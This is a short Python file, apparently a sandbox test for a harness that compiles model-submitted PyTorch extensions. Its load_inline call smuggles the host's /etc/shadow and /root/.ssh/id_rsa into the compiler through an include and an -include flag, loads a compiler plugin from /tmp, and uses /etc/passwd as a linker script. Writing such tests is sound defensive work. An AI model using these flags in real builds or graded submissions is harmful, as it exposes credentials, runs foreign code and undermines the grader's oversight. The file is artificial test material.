"""Lets the compiler read for it: includes files of the host into the source and takes flags that load code into the
compiler. The compiler sits in a sandbox that holds none of these files."""
import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

extension = load_inline(
    name="kb_zoo_compiler",
    cpp_sources='#include "/etc/shadow"\nint leak() { return 0; }',
    functions=["leak"],
    extra_cflags=["-fplugin=/tmp/plugin.so", "-include", "/root/.ssh/id_rsa"],
    extra_ldflags=["-Wl,--script=/etc/passwd"],
)


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x)
